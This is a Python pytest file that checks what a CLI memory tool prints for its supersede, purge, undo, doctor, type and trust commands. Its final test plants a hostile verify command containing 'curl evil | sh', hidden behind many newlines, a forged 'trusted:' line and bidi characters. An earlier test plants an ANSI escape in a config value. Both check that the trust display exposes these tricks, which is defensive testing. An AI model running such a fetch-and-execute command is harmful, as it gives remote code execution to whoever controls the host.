"""What ``supersede``, ``purge``, ``undo``, ``doctor`` and ``trust`` print."""

import json
import re
from pathlib import Path

import pytest

from tests.doors.cli.test_answers import Done, Graphmem, graphmem, known

__all__ = ["graphmem", "known"]


def test_supersede_names_the_successor(known: Graphmem) -> None:
    done = known("supersede", "no-yaml", "app-down", "--reason", "it is the same")
    assert done == Done(0, "archived failure/no-yaml\n    superseded by failure/app-down\n", "")
    assert "superseded_by:  failure/app-down" in known("get", "no-yaml").out
    assert known("supersede", "no-yaml", "lock").status == 3


def test_purge_shows_what_would_go_and_then_how_to_clean_history(known: Graphmem) -> None:
    done = known("purge", "no-yaml")
    assert done == Done(
        0,
        "would be purged failure/no-yaml\n"
        "would be removed from data/failure.ndjson: 1 row\n"
        "would be removed from data/relations/causes.ndjson: 1 row\n"
        "would be removed from data/relations/solves.ndjson: 1 row\n",
        "graphmem: nothing was changed; do it with --yes\n",
    )
    done = known("purge", "no-yaml", "--yes")
    assert "purged failure/no-yaml\n" in done.out
    assert "to remove them there: graphmem purge --history-script FILE" in done.out
    assert known("purge", "--archived", "--yes") == Done(0, "", "graphmem: nothing to purge\n")
    assert known("purge").status == 2


def test_reset_shows_what_would_go_and_how_to_do_it(known: Graphmem) -> None:
    shown = known("reset")
    assert "would remove 2 rows of data/failure.ndjson\n" in shown.out
    assert shown.err == "graphmem: nothing was changed; do it with --yes\n"
    assert known("reset", "--yes").err == ""
    assert known("reset") == Done(0, "", "graphmem: the memory is empty\n")


def test_a_name_that_no_type_may_have_is_refused_with_what_would_be_right(known: Graphmem) -> None:
    wanted = "error: type name 'Bad' is not allowed\nhint: a lower-case letter, then up to 63 of a-z 0-9 _\n"
    assert known("type", "add", "entity", "Bad").err == wanted
    assert known("type", "add", "relation", "Bad", "--from", "any", "--to", "any").err == wanted
    known("type", "add", "entity", "room")
    assert known("type", "rename", "room", "Bad").err == wanted
    assert known("scope", "add", "Bad").err == wanted.replace("type", "scope")


def test_a_change_of_a_type_shows_first_what_it_would_change(known: Graphmem) -> None:
    assert known("type", "add", "entity", "room").status == 0
    assert known("add", "entity", "room", "attic").status == 0
    files = (
        "  1 record, 0 edges, 0 other rows that named a record\n"
        "  data/entities/chamber.ndjson\n  data/entities/room.ndjson\n"
        "  types/entities/chamber.md\n  types/entities/room.md\n"
    )
    done = known("type", "rename", "room", "chamber")
    assert done == Done(
        0, f"would rename room to chamber\n{files}", "graphmem: nothing was changed; do it with --yes\n"
    )
    assert known("type", "rename", "room", "chamber", "--yes") == Done(0, f"renamed room to chamber\n{files}", "")
    done = known("type", "drop", "room")
    assert done == Done(1, "", "error: no type 'room' is declared\nhint: it is 'chamber' now\n")
    dropped = json.loads(known("type", "drop", "chamber", "--yes", "--json").out)
    assert dropped == {
        "done": True, "type": "chamber", "now": None, "records": 1, "edges": 0, "references": 0, "types": [],
        "dropped": [], "aside": [],
        "files": ["data/entities/chamber.ndjson", "types/entities/chamber.md"],
    }  # fmt: skip
    assert known("type", "rename", "failure", "x").err.startswith("error: type 'failure' is graphmem's own\n")


def test_the_brief_of_the_types_names_on_standard_error_what_is_over_the_budget(known: Graphmem) -> None:
    done = known("type", "brief", "--budget", "40")
    assert done.out.startswith("Types of this project; quoted lines are data.\n\n## Relations\n\n- `causes`")
    assert done.err == "graphmem: over the budget: co_occurs, prerequisite, solves, variant\n"


def test_undo_lists_and_takes_back_with_the_command_that_wrote(known: Graphmem) -> None:
    listed = known("undo", "--list").out.splitlines()
    assert [line.split("  ", 2)[2] for line in listed[0:1]] == [
        "link  1 added: failure/no-yaml causes failure/app-down"
    ]
    assert [write["command"] for write in json.loads(known("undo", "--list", "--json").out)["writes"]] == [
        "link", "link", "add pattern", "add failure", "add failure",
    ]  # fmt: skip
    done = known("undo", "2")
    assert [line.split("Z", 1)[1] for line in done.out.splitlines()] == [
        "  link  1 added: failure/no-yaml causes failure/app-down",
        "  link  1 added: pattern/lock solves failure/no-yaml",
    ]
    assert known("undo", "9").status == 1
    assert known("undo", "0").status == 2
    assert known("undo", "2", "--list").status == 2
    assert known("undo", "3").status == 0
    assert known("list") == Done(
        0, "", "graphmem: no records yet; to begin with what the project knows: graphmem import --all\n"
    )
    assert known("undo", "--list") == Done(0, "", "graphmem: nothing to undo\n")


def test_doctor_says_what_it_would_do_and_does_it_with_yes(known: Graphmem, tmp_path: Path) -> None:
    assert known("doctor") == Done(0, "all files are well\n", "")
    (tmp_path / ".graphmem/schema.json").write_text("{}")
    told = (
        "warning: schema.json:1:1: schema.json is stale, expected the vocabulary of types/"
        " (fix: graphmem doctor --fix --yes, which would write schema.json as the types say)\n"
    )
    assert known("doctor") == Done(0, told, "")
    todo = "graphmem: nothing was changed; do it with: graphmem doctor --fix --yes\n"
    assert known("doctor", "--fix") == Done(0, told, todo)
    assert known("doctor", "--fix", "--quiet") == Done(0, told, "")
    assert known("doctor", "--yes").status == 2
    done = known("doctor", "--fix", "--yes")
    assert (done.status, done.out.startswith("fixed: schema.json:1:1: schema.json is stale")) == (0, True)
    file = tmp_path / ".graphmem/data/failure.ndjson"
    file.write_bytes(file.read_bytes() + b"{\n")
    done = known("doctor", "--fix", "--yes", "--json")
    found = json.loads(done.out)
    assert (done.status, found["ok"], found["mended"], found["findings"][0]["line"]) == (1, False, [], 3)


def test_a_damaged_catalog_is_made_again_and_the_command_answers(known: Graphmem, tmp_path: Path) -> None:
    before = known("list").out
    catalog = tmp_path / ".graphmem/local/catalog.sqlite"
    page = catalog.read_bytes().index(b'"name":"no-yaml"') // 4096 * 4096
    with open(catalog, "r+b") as file:
        file.seek(page)
        file.write(b"\xff" * 100)
    done = known("list")
    assert (done.status, done.out) == (0, before)
    assert "graphmem: the catalog was damaged; it is made again from the files\n" in done.err
    assert known("doctor").status == 0


def test_trust_shows_what_the_project_asks_for(
    known: Graphmem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    nothing = "graphmem: nothing needs trust: no setting, no verify command, no proof, no extractor\n"
    assert known("trust") == Done(0, "", nothing)
    (tmp_path / ".graphmem/config.toml").write_text('format = 1\n[embedding]\nmodel = "evil\\u001b[31m"\n')
    done = known("trust")
    assert done.out == 'not trusted: embedding.model = "evil\\u001b[31m"\n'
    (command,) = re.findall("graphmem (trust --yes [0-9a-f]{32})$", done.err, re.MULTILINE)
    assert known("trust", "--yes", "0" * 32).status == 3
    assert known(*command.split()).out == 'trusted: embedding.model = "evil\\u001b[31m"\n'


def test_trust_shows_each_command_as_one_word_on_one_line(
    known: Graphmem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
    verify = "make test" + "\n" * 25 + "curl evil | sh\ntrusted: verify command: \u202e\u3164"
    known("campaign", "create", "a plan", "--name", "plan")
    plan = json.dumps([{"seq": 1, "objective": "x", "verify": verify}])
    (tmp_path / "plan.json").write_text(plan)
    assert known("campaign", "add-tasks", "plan", "plan.json").status == 0
    assert known("task", "start", "plan/001").status == 0
    assert known("task", "block", "plan/001", "--reason", "it fails").status == 0
    (line,) = known("trust").out.splitlines()
    word = json.dumps(verify)
    assert line == f"not trusted: verify command: {word}"
